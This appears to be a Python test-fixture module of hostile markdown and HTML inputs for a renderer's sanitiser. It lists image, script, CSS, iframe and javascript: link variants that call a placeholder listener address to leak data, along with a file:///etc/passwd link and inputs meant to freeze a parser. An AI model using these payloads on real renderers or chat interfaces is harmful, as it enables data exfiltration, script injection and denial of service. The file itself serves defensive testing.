"""Markup that tries to fetch, run or hide something; LEAK stands for the address of the one who listens."""

from __future__ import annotations

_IMAGE = "![a](LEAK)"

FETCHING: dict[str, str] = {
    "inline image": _IMAGE,
    "reference image": "![a][r]\n\n[r]: LEAK",
    "collapsed reference image": "![r][]\n\n[r]: <LEAK>",
    "shortcut reference image": '![r]\n\n[r]: LEAK "title"',
    "image over several lines": '![a](\nLEAK\n"t")',
    "image without scheme": "![a](//HOST/leak)",
    "image with backslashes": "![a](\\\\\\\\HOST\\\\leak)",
    "image with entities": "![a](http&#58;//HOST/leak)",
    "image with escapes": "![a](http:\\/\\/HOST/leak)",
    "image in capitals": "![a](HTTP://HOST/leak)",
    "image in a link": f"[{_IMAGE}](https://example.org)",
    "image in alternative text": "![a ![b](LEAK) c](x)",
    "image in a heading": f"# t {_IMAGE}",
    "image in a table": f"|a|\n|-|\n|{_IMAGE}|",
    "image in a footnote": f"x[^1]\n\n[^1]: {_IMAGE}",
    "image in a list in a quotation": f"> - a\n>   - {_IMAGE}",
    "image in emphasis": f"**{_IMAGE}** ~~_{_IMAGE}_~~",
    "image in a coloured text": f":red[{_IMAGE}] :blue-background[{_IMAGE}] :small[{_IMAGE}]",
    "image in a block directive": f":::note\n{_IMAGE}\n:::",
    "image after an escape": f"\\\\{_IMAGE} \\!{_IMAGE[1:]} !{_IMAGE}",
    "image after entities": "&#33;&#91;a&#93;&#40;LEAK&#41; &excl;&lsqb;a&rsqb;&lpar;LEAK&rpar;",
    "image between pieces of code": f"`a`{_IMAGE}`b` ``{_IMAGE}`` {_IMAGE}",
    "image between dollars": f"$a${_IMAGE}$b$ $5 {_IMAGE} $6",
    "image after an unclosed fence": f"```\n```\n{_IMAGE}\n~~~",
    "image with hidden characters": "!\u200b[a](LEAK) !\u202e[a](LEAK) !\x00[a](LEAK)",
    "image behind indentation": f"        - x\n    {_IMAGE}",
    "image in front matter": f"---\ntitle: {_IMAGE}\n---\n{_IMAGE}",
    "HTML image": '<img src="LEAK"> <img srcset="LEAK 1x"> <IMG\nsrc=LEAK>',
    "broken HTML image": '<img src="LEAK"\n<img src=x onerror="fetch(\'LEAK\')">',
    "SVG": '<svg><image href="LEAK"/></svg> ![a](data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=)',
    "style": "<style>@import url(LEAK);</style><div style=\"background:url('LEAK')\">x</div>",
    "frames and media": '<iframe src="LEAK"></iframe><video src="LEAK" autoplay></video><object data="LEAK"></object>',
    "refresh and prefetch": '<meta http-equiv=refresh content="0;url=LEAK"><link rel=prefetch href="LEAK">',
    "script": "<script>fetch('LEAK')</script><details open ontoggle=fetch('LEAK')>x</details>",
    "formula with a picture": "$$\\includegraphics{LEAK}$$ $\\includegraphics{LEAK}$",
    "formula with a link": "$$\\href{javascript:alert(1)}{x}$$ $\\url{javascript:alert(1)}$ $\\htmlData{a=b}{x}$",
    "diagram": '```mermaid\ngraph TD; A["<img src=LEAK>"]-->B; click A "javascript:alert(1)"\n```',
    "long info string": '```x" onload=fetch("LEAK") {.y}\n<img src=LEAK>\n```',
    "links that run": "[a](javascript:alert(1)) [b](JaVaScRiPt:alert(1)) [c](java&#10;script:alert(1)) [d](vbscript:x) "
    "[e](data:text/html,<script>1</script>) [f](file:///etc/passwd) [g][h]\n\n[h]: javascript:alert(1)",
}

FREEZING: dict[str, str] = {
    "20 000 brackets": "[" * 20_000,
    "images without end": "![" * 10_000,
    "wide table": "\n".join(["|".join("a" * 300), "|".join("-" * 300), *["|".join("b" * 300)] * 300]),
    "5 000 formulas": "$x^2$ " * 5_000,
    "formula that defines itself": "$$\\def\\a{\\a\\a}\\a$$",
    "mile-long rule": "$$\\rule{99999999em}{99999999em}$$",
    "deep groups": "$$" + "{" * 5_000 + "x" + "}" * 5_000 + "$$",
    "deep quotation": ">" * 20_000 + " x",
    "deep list": "\n".join("  " * depth + "- a" for depth in range(150)),
    "emphasis without end": "*a_ " * 5_000,
    "Chinese emphasis without end": "**。" * 6_000,
    "formula brackets without end": "\\[\n" * 900 + "\\(" * 5_000,
}
